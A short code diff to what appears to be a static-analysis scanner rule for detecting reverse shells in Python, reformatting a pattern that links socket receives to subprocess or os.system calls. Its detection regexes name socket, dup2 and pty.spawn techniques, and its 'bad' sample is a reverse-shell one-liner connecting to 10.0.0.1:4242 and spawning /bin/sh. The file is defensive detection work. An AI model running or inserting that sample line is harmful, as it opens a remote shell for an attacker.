@@ -23,7 +23,14 @@ RULE = ScannerRule(
         Pattern(r"\bdup2\s*\(.*\bsock(?:et|s|fd)?\b"),
         Pattern(r"\bsocket\b.*(?:\bdup2\s*\(|\bpty\.spawn\b)"),
         Nearby((OPEN, SPAWN), within=15),
-        Nearby((OPEN, r"\.recv\s*\(", r"(?:subprocess\.\w+|Popen|os\.popen|os\.system)\s*\(\s*[A-Za-z_]\w*(?:\.\w+\(.*\))?\s*(?:\)|,\s*shell\s*=\s*True)"), within=20),
+        Nearby(
+            (
+                OPEN,
+                r"\.recv\s*\(",
+                r"(?:subprocess\.\w+|Popen|os\.popen|os\.system)\s*\(\s*[A-Za-z_]\w*(?:\.\w+\(.*\))?\s*(?:\)|,\s*shell\s*=\s*True)",
+            ),
+            within=20,
+        ),
     ),
     bad=(
         "s.connect(('10.0.0.1',4242));subprocess.call(['/bin/sh','-i'])",
